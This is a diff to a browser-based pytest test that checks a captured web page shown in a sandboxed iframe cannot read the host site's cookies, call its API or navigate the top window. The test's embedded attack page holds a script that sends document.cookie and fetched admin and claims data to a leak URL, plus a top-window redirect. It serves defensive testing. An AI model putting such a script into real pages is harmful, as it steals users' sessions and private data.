@@ -1,4 +1,5 @@
-"""In a real browser: a captured page's scripts cannot read our cookies or call our API."""
+"""In a real browser: a captured page's scripts cannot read our cookies, call our API or navigate
+the window that shows them."""
 
 import pytest
 from django.urls import reverse
@@ -15,7 +16,10 @@ ATTACK = """<html><head><title>Looks harmless</title></head><body>
   fetch("/admin/").then(r => r.text()).then(t =>
     new Image().src = "{leak}?api=" + encodeURIComponent(t.slice(0, 50)));
   new Image().src = "{leak}?cookie=" + encodeURIComponent(document.cookie);
+  fetch("/api/v1/claims/", {{credentials: "include"}}).then(r => r.text()).then(t =>
+    new Image().src = "{leak}?claims=" + encodeURIComponent(t.slice(0, 80)));
   try {{ parent.document.title = "pwned"; }} catch (e) {{}}
+  try {{ top.location = "{leak}?navigated=1"; }} catch (e) {{}}
 </script></body></html>"""
 
 
@@ -38,6 +42,7 @@ def test_a_captured_pages_scripts_do_not_run_in_our_origin(live_server, client, 
             page.goto(live_server.url + reverse("capture-detail", args=[snapshot.pk]))
             page.wait_for_timeout(1500)
             assert page.title().startswith("Capture #")  # the frame could not retitle its parent
+            assert page.url.endswith(reverse("capture-detail", args=[snapshot.pk]))  # nor navigate the top window
             frame = page.frame_locator("iframe.capture-frame")
             assert frame.locator("#claim").inner_text() == "About 100,000 troops were deployed."
             # The raw page opened on its own: still sandboxed by its CSP.
